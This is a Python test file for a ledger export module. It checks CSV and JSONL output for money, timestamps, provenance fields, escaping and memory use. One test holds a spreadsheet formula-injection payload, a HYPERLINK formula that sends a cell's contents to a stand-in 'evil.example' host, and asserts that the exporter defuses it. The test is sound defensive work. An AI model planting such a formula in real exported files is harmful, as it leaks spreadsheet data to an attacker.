import csv
import io
import json
import tracemalloc

import pytest

from ask_expert.ledger import export
from ask_expert.ledger.export import Format
from ask_expert.ledger.store import Ledger
from tests.report.ledgers import (
    NOON_US,
    Paid,
    answered,
    decided,
    record,
    repeated,
    sent,
    told,
)


def written(ledger: Ledger, form: Format) -> str:
    file = io.StringIO()
    export.write(ledger, form, file)
    return file.getvalue()


def json_lines(ledger: Ledger) -> list[dict[str, object]]:
    return [json.loads(line) for line in written(ledger, "jsonl").splitlines()]


def test_there_is_a_line_a_try_and_one_for_a_question_without_any(
    ledger: Ledger,
) -> None:
    decided(ledger, "q_1", "stay_local", at_us=NOON_US)
    answered(ledger, "q_2", at_us=NOON_US + 1)
    repeated(ledger, "q_3", of="q_2", at_us=NOON_US + 2)

    lines = json_lines(ledger)

    assert [(line["question_id"], line["state"]) for line in lines] == [
        ("q_1", None),
        ("q_2", "settled"),
        ("q_3", None),
    ]


def test_money_is_whole_nano_dollars_and_exact_decimal_text(ledger: Ledger) -> None:
    answered(ledger, "q_1", Paid(cost_nusd=1))

    (line,) = json_lines(ledger)

    assert (line["cost_nusd"], line["cost_usd"]) == (1, "0.000000001")
    assert (line["reserved_nusd"], line["reserved_usd"]) == (10_000_000, "0.01")


def test_times_are_iso_8601_in_utc(ledger: Ledger) -> None:
    answered(ledger, "q_1", at_us=NOON_US + 5)

    (line,) = json_lines(ledger)

    assert line["asked_at"] == "2026-11-22T12:00:00.000005Z"
    assert line["ended_at"] == "2026-11-22T12:00:01.000005Z"


def test_a_try_keeps_its_provenance_and_the_current_verdict(ledger: Ledger) -> None:
    answered(ledger, "q_1", Paid(asked="model-1", served="model-1-turbo"))
    told(ledger, "q_1", "no_difference", source="agent", solved=False)
    told(ledger, "q_1", "helped", source="person", solved=True)

    (line,) = json_lines(ledger)

    assert {
        name: line[name]
        for name in (
            "asked_model",
            "served_model",
            "request_id",
            "rule",
            "verdict",
            "verdict_source",
            "solved",
        )
    } == {
        "asked_model": "model-1",
        "served_model": "model-1-turbo",
        "request_id": "req_1",
        "rule": "check_failed",
        "verdict": "helped",
        "verdict_source": "person",
        "solved": True,
    }


def test_both_forms_hold_the_same_lines_and_fields(ledger: Ledger) -> None:
    answered(ledger, "q_1")
    sent(ledger, "q_2", at_us=NOON_US + 1)

    rows = list(csv.DictReader(io.StringIO(written(ledger, "csv"), newline="")))
    lines = json_lines(ledger)

    assert [list(row) for row in rows] == [list(line) for line in lines]
    assert [row["question_id"] for row in rows] == ["q_1", "q_2"]
    assert rows[0]["cost_nusd"] == str(lines[0]["cost_nusd"])


def test_an_empty_ledger_still_names_the_columns(ledger: Ledger) -> None:
    assert written(ledger, "csv").startswith("question_id,asked_at,")
    assert written(ledger, "jsonl") == ""


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝"])
def test_no_cell_is_a_formula_for_a_spreadsheet(ledger: Ledger, start: str) -> None:
    attack = f'{start}HYPERLINK("http://evil.example/?"&A1,"open")'
    answered(
        ledger,
        "q_1",
        Paid(text=attack, served=attack),
        fields={"task": attack, "texts": {"question": attack, "sent": attack}},
    )

    (row,) = csv.DictReader(io.StringIO(written(ledger, "csv"), newline=""))

    for column in ("task", "question", "sent", "answer", "served_model"):
        assert row[column] == f"'{attack}"


def test_texts_with_line_breaks_and_quotes_survive(ledger: Ledger) -> None:
    text = 'first "line"\nsecond, line;\r\nthird «SECRET:api_key:1»'
    answered(ledger, "q_1", Paid(text=text), fields={"texts": {"question": text}})

    (row,) = csv.DictReader(io.StringIO(written(ledger, "csv"), newline=""))
    (line,) = json_lines(ledger)

    assert (row["answer"], row["question"]) == (text, text)
    assert (line["answer"], line["question"]) == (text, text)


class _Counting(io.TextIOBase):
    """A file that forgets what is written to it."""

    size = 0

    def write(self, text: str, /) -> int:
        self.size += len(text)
        return len(text)


def test_the_ledger_is_written_while_it_is_read(ledger: Ledger) -> None:
    size = 20_000
    for number in range(1500):
        ledger.record(record(f"q_{number}", texts={"question": "x" * size}))
    file = _Counting()

    tracemalloc.start()
    lines = export.write(ledger, "jsonl", file)  # pyright: ignore[reportArgumentType]
    _, peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()

    assert lines == 1500
    assert file.size > 1500 * size
    assert peak < file.size / 2
